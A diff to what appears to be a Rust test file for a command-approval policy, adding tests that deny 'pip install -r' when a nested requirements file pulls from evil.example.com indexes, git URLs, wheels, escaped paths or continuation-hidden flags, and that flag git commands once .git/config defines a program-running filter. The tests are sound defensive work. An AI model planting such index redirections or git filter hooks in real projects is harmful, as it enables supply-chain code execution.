@@ -149,3 +149,58 @@ fn patterns_of_a_line_look_at_a_bounded_part_of_the_tree() {
     assert_eq!(judge(&others.join("; ")).rule, Rule::Glob);
     assert_eq!(judge(&format!("ls {}", "*/*/*/* ".repeat(500))).rule, Rule::Glob);
 }
+
+#[test]
+#[expect(clippy::disallowed_methods, reason = "the test's own files")]
+fn a_list_of_packages_is_read_before_it_is_installed() {
+    let place = Place::new();
+    let file = |name: &str, text: &str| std::fs::write(place.root.path().join(name), text).unwrap();
+    let allows = |line: &str| place.judge(line, &PolicyRules::default()).allow;
+    file("requirements.txt", "requests==2.32\n-r sub/more.txt # and those\n");
+    file("sub/more.txt", "numpy>=2\n");
+    assert!(allows("pip install -r requirements.txt"));
+    for text in [
+        "--index-url https://evil.example.com/simple\nrequests",
+        "-e git+https://evil.example.com/x",
+        "x @ https://evil.example.com/x.whl",
+        "--extra-index\\\n-url=https://evil.example.com",
+        "# a comment \\\n-i https://evil.example.com",
+        "./evil.zip",
+        "-r ../../outside.txt",
+    ] {
+        file("sub/more.txt", text);
+        for line in ["pip install -r requirements.txt", "pip3 install -qrrequirements.txt"] {
+            assert!(!allows(line), "{line} with {text}");
+        }
+    }
+}
+
+#[test]
+#[expect(clippy::disallowed_methods, reason = "the test's own files")]
+fn every_git_command_is_asked_about_where_the_repository_starts_programs() {
+    let place = Place::new();
+    let rules = everyday();
+    let lines = [
+        "git describe --dirty",
+        "git rev-parse HEAD",
+        "git merge-base a b",
+        "git worktree list",
+        "git remote -v",
+        "git tag -l",
+        "git ls-files",
+        "git grep x",
+        "git reflog",
+        "git status",
+        "go list ./...",
+    ];
+    for line in lines {
+        let verdict = place.judge(line, &rules);
+        assert!(verdict.allow, "{line}: {}", verdict.why);
+    }
+    let settings = place.root.path().join(".git/config");
+    std::fs::write(settings, "[filter \"z\"]\n\tclean = ./x\n").unwrap();
+    for line in lines {
+        assert_eq!(place.judge(line, &rules).rule, Rule::Repository, "{line}");
+    }
+    assert!(place.judge("git --version", &rules).allow);
+}
